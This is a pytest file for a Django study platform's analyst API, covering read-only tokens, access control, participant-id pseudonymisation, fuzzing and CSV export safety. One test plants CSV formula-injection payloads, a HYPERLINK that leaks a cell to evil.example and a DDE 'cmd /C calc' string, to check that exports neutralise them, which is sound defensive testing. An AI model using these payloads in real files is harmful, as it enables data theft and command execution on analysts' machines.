"""The analysts' API: read-only tokens, closed to participants and anonymous visitors, no 5xx for any
input the OpenAPI schema allows (schemathesis), participants' ids only for staff."""

import csv
import io

import pytest
import schemathesis
from django.contrib.auth.models import Group
from django.core.management import call_command
from django.core.signals import request_finished, request_started
from django.db import close_old_connections
from django.test import Client
from hypothesis import HealthCheck, given, settings

from analysis.permissions import ANALYSTS_GROUP
from analysis.pseudonyms import pseudonym
from analysis.tokens import analyst_token_issue
from generation.models import Judge, Provider
from kinds.rating.models import Rating
from studies.models import Participant, Response, Study

from .flow_helpers import hidden_fields, live_study, post_step, to_first_item

pytestmark = pytest.mark.django_db

WRITE_METHODS = ("post", "put", "patch", "delete")
# Path parameters the schema gives no enum for: values that exist for every rated study.
KNOWN_PATH_VALUES = {
    "what": ["ratings", "participants", "responses"],
    "name": ["main_tests"],
    "judge": ["screening-judge"],
}
PID = "5f00aa11bb22cc33dd44ee55"


@pytest.fixture
def rated_study(client):
    """A live study with one participant who answered everything."""
    study = live_study(slug="api-study")
    to_first_item(client, study, PID)
    for _ in range(study.items_per_participant):
        fields = hidden_fields(client.get(f"/s/{study.slug}/step/").content.decode())
        post_step(client, study, {**fields, "value": "2"})
    assert Participant.objects.get(external_id=PID).status == "completed"
    provider = Provider.objects.create(
        name="judge-endpoint", base_url="http://127.0.0.1:9/v1", api_key_env="JUDGE_KEY"
    )
    Judge.objects.create(study=study, name="screening-judge", provider=provider, model="judge-model")
    return study


def _token_for(username: str, *, staff: bool) -> str:
    from django.contrib.auth import get_user_model

    user = get_user_model().objects.create_user(username=username, is_staff=staff)
    if not staff:
        user.groups.add(Group.objects.get_or_create(name=ANALYSTS_GROUP)[0])
    return analyst_token_issue(user=user)


def _api_paths(slug: str) -> list[str]:
    """Every path of the published schema, its parameters filled in: the study's slug, and every value
    of an enumerated parameter (e.g. each export) or the first example otherwise."""
    import itertools
    import re

    # The schema is for staff, Analysts and token holders only (see test_hardening.py).
    reader = _token_for("schema-reader", staff=True)
    schema = Client().get("/api/schema/", {"format": "json"}, HTTP_AUTHORIZATION=f"Token {reader}").json()
    paths = []
    for template, operations in schema["paths"].items():
        names = re.findall(r"{(\w+)}", template)
        parameters = {
            p["name"]: p for p in operations.get("get", {}).get("parameters", []) if p.get("in") == "path"
        }
        choices = []
        for name in names:
            if name == "slug":
                choices.append([slug])
                continue
            spec = parameters.get(name, {}).get("schema", {})
            choices.append(spec.get("enum") or KNOWN_PATH_VALUES.get(name, ["x"]))
        for values in itertools.product(*choices):
            path = template
            for name, value in zip(names, values, strict=True):
                path = path.replace("{" + name + "}", str(value))
            paths.append(path)
    assert paths, "the API schema lists no paths"
    return paths


def test_analyst_tokens_are_read_only(rated_study):
    token = _token_for("analyst", staff=False)
    api = Client(headers={"Authorization": f"Token {token}"})
    ratings_before = Rating.objects.count()
    for path in _api_paths(rated_study.slug):
        # A rating study has no pairwise files: that path answers 404 (tests/analysis/test_pairwise_* read them).
        assert api.get(path).status_code == (404 if "/pairwise/" in path else 200), path
        for method in WRITE_METHODS:
            response = getattr(api, method)(
                path, {"title": "changed", "value": 1}, content_type="application/json"
            )
            assert response.status_code in (403, 405), (method, path, response.status_code)
    assert Rating.objects.count() == ratings_before
    assert Study.objects.get(pk=rated_study.pk).title != "changed"


def test_the_api_is_closed_to_anonymous_visitors_and_participants(rated_study, client):
    # `client` is the participant's browser (its session holds the participant).
    for path in _api_paths(rated_study.slug):
        assert Client().get(path).status_code in (401, 403), path
        assert client.get(path).status_code in (401, 403), path
        assert Client(headers={"Authorization": "Token " + "0" * 40}).get(path).status_code in (401, 403), (
            path
        )


def test_the_analysis_pages_send_participants_to_the_login(rated_study, client):
    for path in (
        "/analysis/",
        f"/analysis/{rated_study.slug}/",
        f"/analysis/{rated_study.slug}/exports/ratings.csv",
    ):
        response = client.get(path)
        assert response.status_code == 302 and "/login" in response["Location"], path


def _body(response) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.content


def test_staff_can_export_participant_ids(rated_study):
    staff = Client(headers={"Authorization": f"Token {_token_for('staffer', staff=True)}"})
    # The export of record has the platform's ids: staff need them to pay and to exclude people.
    assert PID.encode() in _body(staff.get(f"/api/studies/{rated_study.slug}/exports/participants.csv"))


def test_participant_ids_are_not_in_the_api_for_non_staff_analysts(rated_study):
    analyst = Client(headers={"Authorization": f"Token {_token_for('analyst2', staff=False)}"})
    leaking = [path for path in _api_paths(rated_study.slug) if PID.encode() in _body(analyst.get(path))]
    assert leaking == []
    # They get a stable pseudonym instead, the same in the ratings and the participants exports.
    expected = pseudonym(study_id=rated_study.pk, platform_id=PID)
    assert len(expected) == 17 and PID not in expected
    for what in ("ratings", "participants"):
        body = _body(analyst.get(f"/api/studies/{rated_study.slug}/exports/{what}.csv"))
        assert expected.encode() in body


def test_staff_see_participant_ids_in_the_exports_unless_the_setting_is_off(rated_study, settings):
    staff = Client(headers={"Authorization": f"Token {_token_for('staff2', staff=True)}"})
    assert PID.encode() in _body(staff.get(f"/api/studies/{rated_study.slug}/exports/ratings.csv"))
    settings.EXPORT_RAW_IDS_FOR_STAFF = False
    for what in ("ratings", "participants"):
        body = _body(staff.get(f"/api/studies/{rated_study.slug}/exports/{what}.csv"))
        assert PID.encode() not in body
        assert pseudonym(study_id=rated_study.pk, platform_id=PID).encode() in body


def test_no_input_the_schema_allows_gives_a_server_error(rated_study):
    """schemathesis, in process against the WSGI app: every operation of /api/schema/, 20 generated
    requests each (valid and invalid parameters), with a staff token so the views really run."""
    from config.wsgi import application

    token = _token_for("schema-staff", staff=True)
    seen = []
    # Django's test client keeps the test's transaction open by not closing connections between requests;
    # the raw WSGI calls schemathesis makes need the same (else the first request closes it).
    request_started.disconnect(close_old_connections)
    request_finished.disconnect(close_old_connections)
    try:
        schema = schemathesis.openapi.from_wsgi(
            "/api/schema/?format=json", application, headers={"Authorization": f"Token {token}"}
        )
        operations = [result.ok() for result in schema.get_all_operations()]
        assert operations
        _run_operations(operations, token, seen)
    finally:
        request_started.connect(close_old_connections)
        request_finished.connect(close_old_connections)
    assert len(seen) >= len(operations)


def _run_operations(operations, token: str, seen: list) -> None:
    for operation in operations:

        @given(case=operation.as_strategy())
        @settings(
            max_examples=20,
            deadline=None,
            suppress_health_check=list(HealthCheck),
            derandomize=True,
            database=None,
        )
        def no_server_error(case):
            response = case.call(headers={"Authorization": f"Token {token}"})
            seen.append(response.status_code)
            assert response.status_code < 500, (case.method, case.formatted_path, response.text[:500])

        no_server_error()


def test_analyst_token_command_gives_a_working_read_only_token(rated_study, capsys):
    call_command("analyst_token", "cli-analyst", "--create")
    token = capsys.readouterr().out.strip()
    api = Client(headers={"Authorization": f"Token {token}"})
    assert api.get("/api/studies/").status_code == 200
    assert api.post("/api/studies/", {"slug": "x"}).status_code in (403, 405)


def test_exports_neutralise_spreadsheet_formulas_in_corpus_text(staff_client, client):
    formula = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
    study = live_study(slug="formula", situation="@SUM(1+1)*cmd|' /C calc'!A0")
    Response.objects.filter(prompt__study=study).update(text=formula)
    to_first_item(client, study, "formula01")
    for _ in range(study.items_per_participant):
        fields = hidden_fields(client.get(f"/s/{study.slug}/step/").content.decode())
        post_step(client, study, {**fields, "value": "1"})
    token = _token_for("formula-staff", staff=True)
    api = Client(headers={"Authorization": f"Token {token}"})
    for response in (
        staff_client.get(f"/analysis/{study.slug}/exports/ratings.csv"),
        staff_client.get(f"/analysis/{study.slug}/exports/responses.csv"),
        api.get(f"/api/studies/{study.slug}/exports/ratings.csv"),
    ):
        assert response.status_code == 200
        rows = list(csv.reader(io.StringIO(_body(response).decode("utf-8-sig"))))
        cells = [cell for row in rows[1:] for cell in row]
        assert "'" + formula in cells or any(c.startswith("'@SUM") for c in cells)
        assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")]
